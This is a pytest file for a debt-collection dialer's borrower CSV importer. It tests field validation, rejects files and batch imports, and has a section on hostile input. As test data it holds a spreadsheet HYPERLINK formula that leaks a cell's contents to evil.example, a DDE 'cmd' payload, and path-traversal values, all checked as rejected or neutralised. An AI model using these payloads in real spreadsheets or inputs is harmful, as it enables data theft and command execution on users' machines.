"""Tests for dialer.accounts: parsing a borrowers CSV into records."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import tempfile
import time
import tracemalloc
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import phonenumbers
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import dialer.accounts.csvrecords as csvrecords
import dialer.accounts.fields as field_parsers
import dialer.accounts.parse as accounts
import dialer.store.accounts as store_module
from dialer.accounts.csvrecords import Record, read_records
from dialer.accounts.importer import import_accounts
from dialer.accounts.parse import (
    AccountRecord,
    ImportFileError,
    ImportSettings,
    RejectedRow,
    read_accounts,
    read_header,
    write_rejects,
)
from dialer.core import csvsafe
from dialer.core.errors import ImportFailedError
from dialer.store import Store
from tests.support.stores import backend_store

__all__ = ["backend_store"]  # the fixture: the import tests that write run on both backends

DATA = Path(__file__).parents[1] / "data"
CN = ImportSettings(default_region="CN", default_currency="CNY", default_language="zh-CN")
US = ImportSettings(default_region="US", default_currency="USD", default_language="en-US")
HEADER = "account_id,name,phone,amount,currency,due_date\n"
NOW = datetime(2026, 12, 1, 9, 0, tzinfo=UTC)


def parse(path: Path, import_settings: ImportSettings = CN) -> list[AccountRecord | RejectedRow]:
    return list(read_accounts(path, import_settings, workers=1))


def records_by_id(path: Path, import_settings: ImportSettings = CN) -> dict[str, AccountRecord]:
    return {r.account_id: r for r in parse(path, import_settings) if isinstance(r, AccountRecord)}


def rejects_by_row(path: Path) -> dict[int, RejectedRow]:
    return {r.row_number: r for r in parse(path) if isinstance(r, RejectedRow)}


def write(tmp_path: Path, text: str, encoding: str = "utf-8") -> Path:
    path = tmp_path / "accounts.csv"
    path.write_bytes(text.encode(encoding))
    return path


def one(tmp_path: Path, row: str, import_settings: ImportSettings = CN) -> AccountRecord | RejectedRow:
    (result,) = parse(write(tmp_path, HEADER + row + "\n"), import_settings)
    return result


def reason_of(tmp_path: Path, row: str, import_settings: ImportSettings = CN) -> str:
    result = one(tmp_path, row, import_settings)
    assert isinstance(result, RejectedRow), result
    return result.reason


# ------------------------------------------------------------------ good rows


def test_good_file_has_no_rejects() -> None:
    results = parse(DATA / "accounts_good.csv")
    assert [type(r) for r in results] == [AccountRecord] * 7


def test_chinese_mobile_in_national_form() -> None:
    record = records_by_id(DATA / "accounts_good.csv")["CN001"]
    assert record == AccountRecord(
        account_id="CN001",
        debt_id="CN001",
        name="张三",
        phone_e164="+8613912345678",
        region="CN",
        time_zones=("Asia/Shanghai",),
        tz_derived=True,
        amount_minor=123450,
        currency="CNY",
        due_date=date(2025, 1, 5),
        language="zh-CN",
        columns=(("branch", "上海"),),  # the lender's own column, kept (test_account_columns.py)
    )


def test_chinese_landline_and_stated_debt_id() -> None:
    record = records_by_id(DATA / "accounts_good.csv")["CN002"]
    assert (record.phone_e164, record.debt_id, record.amount_minor) == ("+861012345678", "D-77", 8800)
    assert record.language == "zh-CN"  # the default


def test_us_number_spanning_two_zones_keeps_every_zone() -> None:
    # Area code 208 (Idaho) is split between Mountain and Pacific time.
    record = records_by_id(DATA / "accounts_good.csv")["US001"]
    assert record.phone_e164 == "+12085550101"
    assert record.region == "US"
    assert record.time_zones == ("America/Boise", "America/Los_Angeles")
    assert record.tz_derived


def test_stated_zones_are_split_deduplicated_and_not_derived() -> None:
    record = records_by_id(DATA / "accounts_good.csv")["US002"]
    assert record.time_zones == ("America/New_York", "America/Chicago")
    assert not record.tz_derived
    assert record.amount_minor == 100_000_000
    assert record.language == "en-US"


def test_stated_zone_case_is_corrected() -> None:
    record = records_by_id(DATA / "accounts_good.csv")["JP001"]
    assert record.time_zones == ("Asia/Tokyo",)
    assert not record.tz_derived


def test_number_without_known_zone_is_kept_with_no_zones() -> None:
    record = records_by_id(DATA / "accounts_good.csv")["INTL001"]
    assert record.phone_e164 == "+80012345678"
    assert record.region == "001"  # phonenumbers' code for non-geographic numbers
    assert record.time_zones == ()
    assert record.tz_derived
    assert record.currency == "CNY"  # the default
    assert record.language == "zh-Hant-TW"


@pytest.mark.parametrize(
    ("amount", "currency", "minor"),
    [
        ("1234.50", "CNY", 123450),
        ("1,234.5", "CNY", 123450),
        ("0.01", "USD", 1),
        ("12.340", "USD", 1234),  # trailing zeros are exact, so fine
        ("1000.00", "JPY", 1000),
        ("50,000", "KRW", 50000),
        ("3.500", "KWD", 3500),  # three decimals
        ("9999999999999999.99", "USD", 999_999_999_999_999_999),  # 64-bit safe
    ],
)
def test_amounts_are_exact_minor_units(tmp_path: Path, amount: str, currency: str, minor: int) -> None:
    result = one(tmp_path, f'A1,Li,13912345678,"{amount}",{currency},2025-01-05')
    assert isinstance(result, AccountRecord), result
    assert (result.amount_minor, result.currency) == (minor, currency)


@pytest.mark.parametrize(
    ("amount", "currency", "problem"),
    [
        ("1.005", "CNY", "more decimals than CNY allows (2)"),
        ("100.5", "JPY", "more decimals than JPY allows (0)"),
        ("1.5", "KRW", "more decimals than KRW allows (0)"),
        ("-5", "CNY", "negative"),
        ("0", "CNY", "greater than zero"),
        ("0.000", "USD", "greater than zero"),
        ("1234,50", "CNY", "not an amount like 1234.50"),
        ("12,34.50", "CNY", "not an amount like 1234.50"),
        ("¥100", "CNY", "not an amount like 1234.50"),
        ("1e3", "USD", "not an amount like 1234.50"),
        ("99999999999999999999", "USD", "too large"),
    ],
)
def test_amounts_are_never_rounded(tmp_path: Path, amount: str, currency: str, problem: str) -> None:
    reason = reason_of(tmp_path, f'A1,Li,13912345678,"{amount}",{currency},2025-01-05')
    assert reason.startswith(f"amount: {amount!r}")
    assert problem in reason


def test_us_settings_read_national_numbers_as_us(tmp_path: Path) -> None:
    result = one(tmp_path, "A1,Ann,(212) 555-0123,10,,2025-01-05", US)
    assert isinstance(result, AccountRecord)
    assert (result.phone_e164, result.region, result.currency) == ("+12125550123", "US", "USD")


def test_header_names_ignore_case_and_spaces_and_keep_the_lenders_columns() -> None:
    assert read_header(DATA / "accounts_good.csv")[0] == " Account_ID "
    records = records_by_id(DATA / "accounts_good.csv")
    assert records["CN002"].columns == (("branch", "北京"),)
    assert records["US001"].columns == ()  # an empty cell is no value


def test_byte_order_mark_and_chinese_names_survive(tmp_path: Path) -> None:
    path = write(tmp_path, HEADER + "A1,欧阳娜娜,13912345678,10,CNY,2025-01-05\n", "utf-8-sig")
    (record,) = parse(path)
    assert isinstance(record, AccountRecord)
    assert record.name == "欧阳娜娜"


def test_blank_lines_are_skipped_and_row_numbers_count_lines(tmp_path: Path) -> None:
    text = HEADER + "\nA1,Li,13912345678,10,CNY,2025-01-05\n,,,,,\n\nA2,,13912345678,10,CNY,2025-01-05\n"
    results = parse(write(tmp_path, text))
    assert [type(r) for r in results] == [AccountRecord, RejectedRow]
    assert isinstance(results[1], RejectedRow)
    assert results[1].row_number == 6


def test_crlf_line_ends(tmp_path: Path) -> None:
    text = HEADER.replace("\n", "\r\n") + "A1,Li,13912345678,10,CNY,2025-01-05\r\nA2,,1,10,CNY,2025-01-05\r\n"
    results = parse(write(tmp_path, text))
    assert isinstance(results[0], AccountRecord)
    assert isinstance(results[1], RejectedRow)
    assert results[1].row_number == 3


def test_name_white_space_is_collapsed(tmp_path: Path) -> None:
    result = one(tmp_path, '"A1"," Li\n  Wei ",13912345678,10,CNY,2025-01-05')
    assert isinstance(result, AccountRecord)
    assert result.name == "Li Wei"


# ------------------------------------------------------------------- bad rows


@pytest.mark.parametrize(
    ("row_number", "reason"),
    [
        (3, "name: missing"),
        (4, "phone: '12345' is not a valid number for region CN (too short"),
        (5, "phone: '1.39123E+10' looks mangled by Excel"),
        (6, "time_zone: 'Asia/Beijing' is not an IANA time zone"),
        (7, "amount: '-5' is negative"),
        (8, "amount: '0.00' must be greater than zero"),
        (9, "amount: '1.005' has more decimals than CNY allows (2)"),
        (10, "amount: '100.5' has more decimals than JPY allows (0)"),
        (11, "amount: '1234,50' is not an amount like 1234.50 or 1,234.50"),
        (12, "currency: 'RMB' is not an ISO 4217 currency code"),
        (13, "due_date: '2025-02-30' is not a real date"),
        (14, "due_date: '05/01/2025' is not a date like 2025-01-31"),
        (15, "language: 'chinese' is not a BCP 47 tag"),
        (16, "account_id: 'OK001' duplicates row 2"),
        (18, "phone: 'abc' is not a phone number"),
        (20, "row: 9 fields but the header has 8; quote values that contain commas"),
        (21, "currency: XAU has no minor unit"),
    ],
)
def test_each_bad_row_names_its_line_field_and_problem(row_number: int, reason: str) -> None:
    assert rejects_by_row(DATA / "accounts_bad.csv")[row_number].reason.startswith(reason)


def test_bad_file_yields_one_result_per_data_row() -> None:
    results = parse(DATA / "accounts_bad.csv")
    assert len(results) == 18  # 21 lines: a header, a blank line, a record on two lines
    assert [type(r) for r in results].count(AccountRecord) == 1


def test_record_on_several_lines_is_numbered_by_its_first_line() -> None:
    reject = rejects_by_row(DATA / "accounts_bad.csv")[18]
    assert "spans lines 18-19" in reject.reason
    assert reject.raw == 'B014,"two\nlines",abc,,100.00,CNY,2025-01-05,'


def test_several_problems_in_one_row_are_all_reported(tmp_path: Path) -> None:
    reason = reason_of(tmp_path, "A1,,12345,-1,XYZ,tomorrow")
    for field in ("name:", "phone:", "amount:", "currency:", "due_date:"):
        assert field in reason


def test_later_duplicate_is_rejected_even_when_the_first_was_bad(tmp_path: Path) -> None:
    text = HEADER + "A1,,13912345678,10,CNY,2025-01-05\nA1,Li,13912345678,10,CNY,2025-01-05\n"
    results = parse(write(tmp_path, text))
    assert [r.reason for r in results if isinstance(r, RejectedRow)] == [
        "name: missing",
        "account_id: 'A1' duplicates row 2",
    ]


def test_missing_currency_without_default_is_rejected(tmp_path: Path) -> None:
    no_default = ImportSettings(default_region="CN", default_currency=None, default_language="zh-CN")
    reason = reason_of(tmp_path, "A1,Li,13912345678,10,,2025-01-05", no_default)
    assert reason == "currency: missing (no default currency is configured)"


def test_possible_but_invalid_number_is_rejected(tmp_path: Path) -> None:
    number = phonenumbers.parse("+1 555 555 0101")
    assert phonenumbers.is_possible_number(number)
    assert not phonenumbers.is_valid_number(number)
    reason = reason_of(tmp_path, "A1,Li,+1 555 555 0101,10,USD,2025-01-05")
    assert reason.startswith("phone: '+1 555 555 0101' is not a valid number for region US (right length")


def test_phone_with_extension_is_rejected(tmp_path: Path) -> None:
    assert "extension" in reason_of(tmp_path, "A1,Li,13912345678 ext. 5,10,CNY,2025-01-05")


def test_validity_matches_is_valid_number() -> None:
    samples = ["13912345678", "12345", "+1 208 555 0101", "+1 555 555 0101", "+80012345678", "0101234"]
    samples += [f"+{phonenumbers.country_code_for_region(r)}12345678" for r in ("GB", "DE", "BR", "IN")]
    for raw in samples:
        number = phonenumbers.parse(raw, "CN")
        try:
            field_parsers.parse_phone(raw, "CN")
            ours = True
        except ValueError:
            ours = False
        assert ours == (phonenumbers.is_valid_number(number) and not number.extension), raw


# ----------------------------------------------------------------- file level


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "the file is empty"),
        (b" \n\n", "the file is empty"),
        (b"account_id,name,phone\nA1,Li,1\n", "missing required column(s): amount, due_date"),
        (
            "account_id,name,phone,amount,due_date\n1,张三,1,1,1\n".encode("gbk"),
            "not UTF-8 (first bad byte on line 2)",
        ),
        ("account_id,name\n".encode("utf-16"), "UTF-16"),
        (b"PK\x03\x04rest", "Excel workbook"),
        (b"a\x00c\n", "NUL bytes"),
        (HEADER.replace("currency", "Phone").encode(), "column 'phone' appears twice (columns 3 and 5)"),
    ],
)
def test_file_level_problems(tmp_path: Path, content: bytes, message: str) -> None:
    path = tmp_path / "accounts.csv"
    path.write_bytes(content)
    with pytest.raises(ImportFileError) as caught:
        read_accounts(path, CN)  # raises at once, before any iteration
    assert message in caught.value.message
    assert caught.value.path == path


def test_missing_columns_message_lists_what_was_found(tmp_path: Path) -> None:
    with pytest.raises(ImportFileError, match=r"missing required column\(s\): phone \(found: "):
        read_accounts(write(tmp_path, "account_id,name,amount,due_date,notes\n"), CN)


def test_gbk_file_is_named_as_such(tmp_path: Path) -> None:
    path = write(tmp_path, HEADER + "A1,张三,13912345678,10,CNY,2025-01-05\n", "gbk")
    with pytest.raises(ImportFileError, match="GBK/GB18030"):
        read_accounts(path, CN)


def test_unreadable_file(tmp_path: Path) -> None:
    with pytest.raises(ImportFileError, match="cannot read the file"):
        read_accounts(tmp_path / "missing.csv", CN)


def test_unbalanced_quote_swallowing_a_huge_field_fails_the_file(tmp_path: Path) -> None:
    text = HEADER + 'A1,"Li,13912345678,10,CNY,2025-01-05\n' + "x" * 200_000 + "\n"
    with pytest.raises(ImportFileError, match=r"line 2: .*quote"):
        read_accounts(write(tmp_path, text), CN)


def test_header_only_file_has_no_rows(tmp_path: Path) -> None:
    assert parse(write(tmp_path, HEADER)) == []


def test_settings_are_validated_and_normalised() -> None:
    assert ImportSettings("cn", "cny", "zh_cn") == ImportSettings("CN", "CNY", "zh-CN")
    with pytest.raises(ValueError):
        ImportSettings("XX", None, "zh-CN")
    with pytest.raises(ValueError):
        ImportSettings("CN", "RMB", "zh-CN")
    with pytest.raises(ValueError):
        ImportSettings("CN", None, "chinese")


# -------------------------------------------------------------------- rejects


def test_rejects_file_can_be_fixed_and_re_imported(tmp_path: Path) -> None:
    source = DATA / "accounts_bad.csv"
    rejects = [r for r in parse(source) if isinstance(r, RejectedRow)]
    out = tmp_path / "rejects.csv"
    write_rejects(out, read_header(source), rejects)

    assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM, for Excel
    rows = list(csv.reader(io.StringIO(out.read_text("utf-8-sig"), newline="")))
    assert rows[0] == ["row_number", "reason", *read_header(source)]
    assert [int(row[0]) for row in rows[1:]] == [r.row_number for r in rejects]
    assert rows[1][1] == "name: missing"
    assert rows[1][2:] == ["B001", "", "13912345678", "", "100.00", "CNY", "2025-01-05", ""]

    fixed = out.read_text("utf-8-sig").replace("B001,,", "B001,Fixed Name,", 1)
    out.write_text(fixed, "utf-8-sig")
    again = parse(out)
    assert len(again) == len(rejects)
    # The duplicate of row 2 stands alone in the rejects file, so it is accepted there:
    # removing it, or letting it overwrite, is the operator's call.
    assert [r.account_id for r in again if isinstance(r, AccountRecord)] == ["B001", "OK001"]

    # Rejects of a rejects file do not grow extra row_number/reason columns.
    write_rejects(tmp_path / "again.csv", read_header(out), [r for r in again if isinstance(r, RejectedRow)])
    assert read_header(tmp_path / "again.csv") == read_header(out)


def test_rejects_of_rows_longer_than_the_header_keep_every_field(tmp_path: Path) -> None:
    reject = RejectedRow(3, "row: too long", "A1,Li,1,234.50,x")
    out = tmp_path / "rejects.csv"
    write_rejects(out, ["account_id", "name", "phone", "amount"], [reject])
    rows = list(csv.reader(io.StringIO(out.read_text("utf-8-sig"), newline="")))
    assert rows[1] == ["3", "row: too long", "A1", "Li", "1", "234.50", "x"]


# ------------------------------------------------------------- process pool


def test_worker_processes_give_the_same_results(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(accounts, "_POOL_MIN_PHONES", 1)
    for name in ("accounts_good.csv", "accounts_bad.csv"):
        assert list(read_accounts(DATA / name, CN, workers=2)) == parse(DATA / name)


# ------------------------------------------------------------------- property

cell = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=12)
plausible = st.sampled_from(["A1", "13912345678", "+1 208 555 0101", "10.50", "CNY", "2025-01-05", "", " "])
rows = st.lists(st.lists(cell | plausible, min_size=0, max_size=8), max_size=12)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=rows)
def test_every_data_row_yields_exactly_one_result(tmp_path: Path, rows: list[list[str]]) -> None:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["account_id", "name", "phone", "amount", "currency", "due_date"])
    writer.writerows(rows)
    path = write(tmp_path, out.getvalue())

    results = parse(path)

    expected = [row for row in rows if any(field.strip() for field in row)]
    assert len(results) == len(expected)
    numbers = [r.row_number if isinstance(r, RejectedRow) else 0 for r in results]
    assert sorted(n for n in numbers if n) == [n for n in numbers if n]  # in file order
    for result, row in zip(results, expected, strict=True):
        if isinstance(result, RejectedRow):
            assert result.reason
            assert next(csv.reader(io.StringIO(result.raw, newline=""))) == row
        else:
            assert result.account_id == row[0].strip()


# ------------------------------------------------- hostile input (issue 9, items 4 and 11)

ZONE_HEADER = "account_id,name,phone,time_zone,amount,currency,due_date\n"


def zone_row(index: int, zone: str = "Asia/Shanghai") -> list[str]:
    return [f"A{index}", f"Borrower {index}", f"139{index:08d}", zone, "10.00", "CNY", "2026-12-31"]


def csv_file(path: Path, rows: list[list[str]], header: str = ZONE_HEADER) -> Path:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    path.write_text(header + out.getvalue(), encoding="utf-8")
    return path


def read_csv(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    "zone",
    [
        "US",
        "America",
        "Asia",
        "../etc",
        "/etc/passwd",
        "Z" * 256,
        "Asia/Shang\x00hai",
        "localtime",
        "Factory",
    ],
)
def test_a_zone_that_is_no_zone_is_a_reject_of_its_row_and_field(tmp_path: Path, zone: str) -> None:
    rows = [zone_row(0), zone_row(1, zone), zone_row(2)]
    results = parse(csv_file(tmp_path / "z.csv", rows))
    assert [type(r) for r in results] == [AccountRecord, RejectedRow, AccountRecord]
    reject = results[1]
    assert isinstance(reject, RejectedRow) and reject.row_number == 3
    assert reject.reason.startswith("time_zone: ") and "is not an IANA time zone" in reject.reason


def test_a_library_error_on_a_value_is_a_reject_of_that_field(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(value: str) -> date:
        if value == "2026-01-02":
            raise IsADirectoryError(21, "Is a directory")
        return date(2026, 1, 1)

    monkeypatch.setattr(accounts, "parse_date", broken)
    rows = [zone_row(0), [*zone_row(1)[:6], "2026-01-02"], zone_row(2)]
    results = parse(csv_file(tmp_path / "d.csv", rows))
    assert [type(r) for r in results] == [AccountRecord, RejectedRow, AccountRecord]
    assert isinstance(results[1], RejectedRow)
    assert results[1].reason == "due_date: cannot be read (IsADirectoryError)"


# A bad zone after row 6,000 used to raise IsADirectoryError inside the import: 5,000 accounts
# written, no chain event, the import record 0/0/0, no rejects file, the 1,100 rows after it lost.


async def import_rows(store: Store) -> list[tuple[int, int, int, int]]:
    found = await store.fetch_all("SELECT rows, inserted, updated, rejected FROM imports")
    return [(r["rows"], r["inserted"], r["updated"], r["rejected"]) for r in found]


async def import_events(store: Store) -> list[tuple[str, dict[str, object]]]:
    found = await store.fetch_all(
        "SELECT kind, data FROM audit_events WHERE kind LIKE 'accounts.%' ORDER BY seq"
    )
    return [(r["kind"], json.loads(r["data"])) for r in found]


async def account_ids(store: Store) -> set[str]:
    return {r["account_id"] for r in await store.fetch_all("SELECT account_id FROM accounts")}


async def test_a_bad_zone_after_row_6000_is_one_reject_and_every_other_row_is_imported(
    backend_store: Store, tmp_path: Path
) -> None:
    source = csv_file(
        tmp_path / "b.csv", [zone_row(i, "US" if i == 6000 else "Asia/Shanghai") for i in range(7101)]
    )
    rejects_file = tmp_path / "rejects.csv"
    store = backend_store
    report = await import_accounts(store, source, CN, NOW, rejects_file)

    assert (report.rows, report.inserted, report.updated, len(report.rejects)) == (7101, 7100, 0, 1)
    assert await import_rows(store) == [(7101, 7100, 0, 1)]
    ids = await account_ids(store)
    assert len(ids) == 7100 and "A6000" not in ids and {"A5999", "A6001", "A7100"} <= ids
    events = await import_events(store)
    assert [kind for kind, _ in events] == ["accounts.import_batch"] * 2 + ["accounts.imported"]
    assert [data["rows"] for _, data in events] == [5000, 2101, 7101]
    assert events[-1][1] == {
        "import_id": report.import_id, "file": str(source), "rows": 7101, "inserted": 7100, "updated": 0,
        "rejected": 1,
    }  # fmt: skip
    header, row = read_csv(rejects_file)
    assert header[:2] == ["row_number", "reason"]
    assert row[:2] == ["6002", "time_zone: 'US' is not an IANA time zone (like Asia/Shanghai)"]
    assert row[2:] == zone_row(6000, "US")


async def test_a_failure_mid_import_leaves_whole_batches_and_is_reported_failed(
    backend_store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real_append = store_module.append_audit

    async def failing_append(db: Any, events: Any) -> None:
        # Inside batch 2's transaction, after its accounts and rejects were written.
        if any(e.kind == "accounts.import_batch" and e.data["batch"] == 2 for e in events):
            raise sqlite3.OperationalError("disk I/O error (injected)")
        await real_append(db, events)

    monkeypatch.setattr(store_module, "append_audit", failing_append)
    rows = [zone_row(i, "Asia" if i in (10, 6000) else "Asia/Shanghai") for i in range(7101)]
    source = csv_file(tmp_path / "b.csv", rows)
    store = backend_store
    with pytest.raises(ImportFailedError, match=r"failed after 5000 rows.*disk I/O error \(injected\)"):
        await import_accounts(store, source, CN, NOW, tmp_path / "rejects.csv")
    assert await store.rejects(1) == [(12, "time_zone: 'Asia' is not an IANA time zone (like Asia/Shanghai)")]

    ids = await account_ids(store)
    assert ids == {f"A{i}" for i in range(5000) if i != 10}  # batch 1 whole, nothing of batch 2
    assert await import_rows(store) == [(5000, 4999, 0, 1)]  # what was committed, not 0/0/0
    events = await import_events(store)
    assert [kind for kind, _ in events] == ["accounts.import_batch", "accounts.import_failed"]
    failed = events[1][1]
    assert (failed["rows"], failed["inserted"], failed["rejected"]) == (5000, 4999, 1)
    assert "disk I/O error (injected)" in str(failed["reason"])
    assert not (tmp_path / "rejects.csv").exists()


def test_a_field_over_128_kib_is_a_reject_naming_it_and_the_other_rows_are_read(tmp_path: Path) -> None:
    long_name = "x" * 200_000
    notes = "y" * 140_000
    text = (
        ZONE_HEADER.replace("\n", ",notes\n")
        + ",".join(zone_row(0)) + ",ok\n"
        + ",".join([*zone_row(1)[:1], long_name, *zone_row(1)[2:]]) + ",ok\n"
        + ",".join(zone_row(2)) + f",{notes}\n"
        + ",".join(zone_row(3)) + ",ok\n"
    )  # fmt: skip
    results = parse(write(tmp_path, text))
    assert [type(r) for r in results] == [AccountRecord, RejectedRow, RejectedRow, AccountRecord]
    assert isinstance(results[1], RejectedRow) and isinstance(results[2], RejectedRow)
    assert (results[1].row_number, results[1].reason) == (3, "name: field longer than 131072 bytes")
    assert (results[2].row_number, results[2].reason) == (
        4,
        "column 8 ('notes'): field longer than 131072 bytes",
    )
    assert len(results[1].raw) < 2000  # the rejects keep the start of the field, not all of it


def test_a_quoted_field_over_128_kib_on_many_lines_is_a_reject(tmp_path: Path) -> None:
    lines = "\n".join(["z" * 1000] * 200)
    rows = [zone_row(0), [zone_row(1)[0], lines, *zone_row(1)[2:]], zone_row(2)]
    results = parse(csv_file(tmp_path / "q.csv", rows))
    assert [type(r) for r in results] == [AccountRecord, RejectedRow, AccountRecord]
    assert isinstance(results[1], RejectedRow)
    assert results[1].reason.startswith("name: field longer than 131072 bytes (this record spans lines 3-202")


def test_a_huge_single_line_is_read_in_bounded_memory(tmp_path: Path) -> None:
    path = tmp_path / "huge.csv"
    with path.open("w", encoding="utf-8") as out:
        out.write(ZONE_HEADER + ",".join(zone_row(0)) + "\nA1,")
        for _ in range(48):
            out.write("n" * (1 << 20))  # one 48 MiB line
        out.write("\n" + ",".join(zone_row(2)) + "\n")
    tracemalloc.start()
    started = time.perf_counter()
    try:
        results = parse(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert time.perf_counter() - started < 10
    assert peak < 24 << 20  # the whole line would be 48 MiB at least, several times over before
    assert [type(r) for r in results] == [AccountRecord, RejectedRow, AccountRecord]  # and the next row
    assert isinstance(results[1], RejectedRow)
    assert results[1].reason == (
        "row: longer than 1048576 bytes (only its start was read); name: field longer than 131072 bytes"
    )
    assert results[1].row_number == 3 and len(results[1].raw) < 2000


@settings(max_examples=300, deadline=None)
@given(
    text=st.text(st.sampled_from(["a", ",", '"', "\n", "\r", " ", "é", "中"]), max_size=60),
    piece=st.sampled_from([1, 2, 3, 64 << 10]),
)
def test_records_are_what_csv_reads_whatever_the_pieces(text: str, piece: int) -> None:
    expected = []
    reader = csv.reader(io.StringIO(text, newline=""))
    start = 1
    for fields in reader:
        expected.append(Record(start, reader.line_num, fields))
        start = reader.line_num + 1
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "t.csv"
        path.write_text(text, encoding="utf-8", newline="")
        with pytest.MonkeyPatch.context() as patch, path.open("rb") as handle:
            patch.setattr(csvrecords, "_PIECE", piece)
            try:
                got = list(read_records(path, handle))
            except ImportFileError as exc:
                assert 'a quote (") is left open' in exc.message and '"' in text
                return
    assert got == expected


def test_formula_cells_are_neutralised_in_the_rejects_file_and_restored_on_re_import(tmp_path: Path) -> None:
    formula_name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    rows = [
        ["@SUM(1+1)", formula_name, "13912345678", "Asia/Shanghai", "10.00", "CNY", "someday"],
        ["A2", "+cmd|' /C calc'!A0", "+86 139-1234-5679", "", "-5", "CNY", "2026-12-31"],
        ["A3", "\tTab", "+86 13912345670", "", "10.00", "CNY", "2026-1-1x"],
    ]
    source = csv_file(tmp_path / "f.csv", rows, ZONE_HEADER.replace("\n", ",notes\n"))
    rejects = [r for r in parse(source) if isinstance(r, RejectedRow)]
    assert len(rejects) == 3
    out = tmp_path / "rejects.csv"
    # A formula header cell is refused on import (test_account_columns.py); the rejects file's
    # header is neutralised all the same.
    write_rejects(out, [*read_header(source)[:-1], "=1+1"], rejects)

    written = read_csv(out)
    assert written[0][-1] == "'=1+1"
    assert written[1][2:4] == ["'@SUM(1+1)", "'" + formula_name]
    assert written[2][3:7] == ["'+cmd|' /C calc'!A0", "'+86 139-1234-5679", "", "-5"]  # a number stays
    assert written[3][3:5] == ["'\tTab", "+86 13912345670"]
    for row in written:
        assert all(cell[:1] not in ("=", "@", "\t", "\r") for cell in row)
        assert all(cell[:1] not in ("+", "-") or cell[1:].replace(" ", "").isdigit() for cell in row)

    write_rejects(out, read_header(source), rejects)
    again = [r for r in parse(out) if isinstance(r, RejectedRow)]  # read back: the lender's values
    for reread, reject, row in zip(again, rejects, rows, strict=True):
        assert next(csv.reader([reread.raw])) == [str(reject.row_number), reject.reason, *row, ""]


def test_the_audit_export_and_the_rejects_file_share_one_formula_rule() -> None:
    from audit.web import app

    assert app.csvsafe is csvsafe
    assert [csvsafe.cell(v) for v in ("=1", "@a", "+1 208 555 0101", "-5", "-1+2", "\rx", None, 3)] == [
        "'=1", "'@a", "+1 208 555 0101", "-5", "'-1+2", "'\rx", "", "3",
    ]  # fmt: skip
    assert csvsafe.uncell("'=1") == "=1" and csvsafe.uncell("'abc") == "'abc"


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("A\u202e1", "U+202E RIGHT-TO-LEFT OVERRIDE"),
        ("A\u20661", "U+2066 LEFT-TO-RIGHT ISOLATE"),
        ("A\u200e1", "U+200E LEFT-TO-RIGHT MARK"),
        ("A\u200b1", "U+200B ZERO WIDTH SPACE"),
        ("A\u200d1", "U+200D ZERO WIDTH JOINER"),
        ("\ufeffA1", "U+FEFF ZERO WIDTH NO-BREAK SPACE"),
        ("A\u20601", "U+2060 WORD JOINER"),
        ("A\x001", "U+0000 control character"),
        ("A\x071", "U+0007 control character"),
    ],
)
@pytest.mark.parametrize("column", ["account_id", "debt_id"])
def test_invisible_characters_in_ids_are_a_reject_naming_the_field(
    tmp_path: Path, value: str, shown: str, column: str
) -> None:
    header = "account_id,debt_id,name,phone,amount,currency,due_date\n"
    ids = [value, "D1"] if column == "account_id" else ["A1", value]
    rows = [[*ids, "Li", "13912345678", "10", "CNY", "2026-12-31"]]
    (result,) = parse(csv_file(tmp_path / "i.csv", rows, header))
    assert isinstance(result, RejectedRow)
    assert result.reason == f"{column}: {value!r} contains {shown}, an invisible character"


def test_look_alike_ids_cannot_make_a_second_account(tmp_path: Path) -> None:
    rows = [
        zone_row(1),
        ["Ａ1", *zone_row(2)[1:]],
        ["A\u200b1", *zone_row(3)[1:]],
        ["A\u00a01", *zone_row(4)[1:]],
    ]
    results = parse(csv_file(tmp_path / "l.csv", rows))
    assert [r.account_id for r in results if isinstance(r, AccountRecord)] == ["A1"]
    reasons = [r.reason for r in results if isinstance(r, RejectedRow)]
    assert reasons == [
        "account_id: 'Ａ1' has full-width or other compatibility characters; write it as 'A1'",
        "account_id: 'A\\u200b1' contains U+200B ZERO WIDTH SPACE, an invisible character",
        "account_id: 'A\\xa01' has full-width or other compatibility characters; write it as 'A 1'",
    ]


@pytest.mark.parametrize(
    ("name", "problem"),
    [
        ("Li\u202eieW", "U+202E RIGHT-TO-LEFT OVERRIDE"),
        ("\u200bLi Wei", "U+200B ZERO WIDTH SPACE"),
        ("Li\ufeffWei", "U+FEFF ZERO WIDTH NO-BREAK SPACE"),
        ("Li\x00Wei", "U+0000 control character"),
        ("Li \u200c Wei", "U+200C ZERO WIDTH NON-JOINER"),  # a joiner joins nothing here
    ],
)
def test_invisible_characters_in_names_are_a_reject(tmp_path: Path, name: str, problem: str) -> None:
    (result,) = parse(csv_file(tmp_path / "n.csv", [[*zone_row(1)[:1], name, *zone_row(1)[2:]]]))
    assert isinstance(result, RejectedRow)
    assert result.reason == f"name: {name!r} contains {problem}, an invisible character"


def test_joiners_inside_a_word_are_part_of_a_name(tmp_path: Path) -> None:
    name = "علی\u200cرضا"  # Persian: ZWNJ is part of the spelling
    (result,) = parse(csv_file(tmp_path / "p.csv", [[*zone_row(1)[:1], name, *zone_row(1)[2:]]]))
    assert isinstance(result, AccountRecord) and result.name == name
